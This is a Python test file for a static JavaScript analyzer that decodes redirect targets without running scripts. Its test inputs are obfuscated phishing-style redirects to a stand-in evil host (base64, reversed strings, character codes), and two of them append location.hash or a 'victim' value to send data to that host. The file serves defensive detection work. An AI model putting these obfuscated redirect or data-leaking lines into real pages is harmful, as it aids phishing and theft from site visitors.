"""Script redirects decoded statically (issue 24 item 4): the script is parsed, never run."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from uriinspector.sources.script import MAX_SCRIPT_CHARS, read_script

EVIL = "https://evil.example/login"


@pytest.mark.parametrize(
    ("script", "sink"),
    [
        ('window.location = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbG9naW4=");', "window.location ="),
        ('location.href = "https://ev" + "il.example/login";', "location.href ="),
        ('document.location = "https://evil.example/login"', "document.location ="),
        ('top.location.href = "https://evil.example/login"', "top.location.href ="),
        ('location.replace("https://evil.example/login")', "location.replace()"),
        ('window.location.assign("https://evil.example/login")', "window.location.assign()"),
        ('window.open("https://evil.example/login", "_blank")', "window.open()"),
        ('location = "https://evil.example/login"', "location ="),
        ('location["href"] = "https://evil.example/login"', "location.href ="),
        # obfuscations analysts meet
        ('var u = "nigol/elpmaxe.live//:sptth".split("").reverse().join("");'
         'location.replace(u);', "location.replace()"),
        ("location.href = String.fromCharCode(104,116,116,112,115,58,47,47,101,118,105,108,"
         "46,101,120,97,109,112,108,101,47,108,111,103,105,110);", "location.href ="),
        ('location.href = decodeURIComponent("https%3A%2F%2Fevil.example%2Flogin")',
         "location.href ="),
        ('location.href = unescape("%68ttps://evil.example/login")', "location.href ="),
        ('location.href = "\\x68\\x74tps://evil.example/\\u006cogin"', "location.href ="),
        ('var parts = ["https://", "evil.example", "/login"];'
         'window.location.href = parts.join("");', "window.location.href ="),
        ('const host = "evil.example"; location.href = `https://${host}/login`;',
         "location.href ="),
        ('var a = "https://evil.example/"; var b = a.concat("login"); location = b;',
         "location ="),
        ('window.location = window.atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvbG9naW4=")',
         "window.location ="),
        ('setTimeout(function () { window.location = "https://evil.example/login"; }, 10)',
         "window.location ="),
    ],
)
def test_navigation_targets_are_decoded(script: str, sink: str) -> None:
    reading = read_script(script)
    assert [(t.url, t.sink, t.partial) for t in reading.targets] == [(EVIL, sink, False)]
    assert reading.problems == ()


def test_a_run_time_part_keeps_the_literal_prefix_with_a_note() -> None:
    reading = read_script('window.location = "https://evil.example/?u=" + location.hash.slice(1)')
    (target,) = reading.targets
    assert target.url == "https://evil.example/?u=" and target.partial
    assert target.note is not None and "location.hash" in target.note
    victim = read_script('var e = getVictim(); location.href = "https://evil.example/#" + e')
    assert victim.targets[0].url == "https://evil.example/#" and victim.targets[0].partial


def test_spans_point_at_the_sink_in_the_script() -> None:
    text = 'let x = 1;\nlocation.href = "https://a.example/";'
    (t,) = read_script(text).targets
    assert text[t.start:t.end] == 'location.href = "https://a.example/"'


@pytest.mark.parametrize(
    "script",
    [
        'a.href = "https://not-a-navigation.example/"',
        'console.log("https://logged.example/")',
        'var s = "https://string.example/";',
        'var u = "https://a.example/"; u = other(); location = u;',  # reassigned: unknown
        "location = cond ? a : b",
        'location.href = fetchTarget()',
        "",
    ],
)
def test_no_target_where_nothing_constant_navigates(script: str) -> None:
    assert read_script(script).targets == ()


def test_malformed_script_is_a_problem_not_an_exception() -> None:
    reading = read_script("location = (")
    assert reading.targets == () and "could not be parsed" in reading.problems[0]


def test_deep_nesting_and_size_are_bounded() -> None:
    deep = read_script("location = " + "(" * 50_000 + '"x"' + ")" * 50_000)
    assert deep.targets == () and deep.problems
    big = read_script("//" + "a" * MAX_SCRIPT_CHARS)
    assert big.problems and "only scripts up to" in big.problems[0]


def test_a_doubling_bomb_stops_at_the_value_bound() -> None:
    lines = ['const a0 = "xxxxxxxxxxxxxxxx";']
    lines += [f"const a{i} = a{i - 1} + a{i - 1};" for i in range(1, 40)]
    lines.append("location = a39;")
    reading = read_script("\n".join(lines))
    assert reading.targets == () and "grows past" in reading.problems[0]


def test_a_self_referencing_constant_does_not_loop() -> None:
    assert read_script("var a = a + 'x'; location = a;").targets == ()


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=300))
def test_any_text_is_answered(text: str) -> None:
    reading = read_script(text)
    assert all(isinstance(t.url, str) for t in reading.targets)


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet="abcxyz./:-_%", min_size=1, max_size=40))
def test_a_reversed_literal_always_comes_back(word: str) -> None:
    script = f'location.href = "{word[::-1]}".split("").reverse().join("");'
    reading = read_script(script)
    assert [t.url for t in reading.targets] == ([word.strip()] if word.strip() else [])
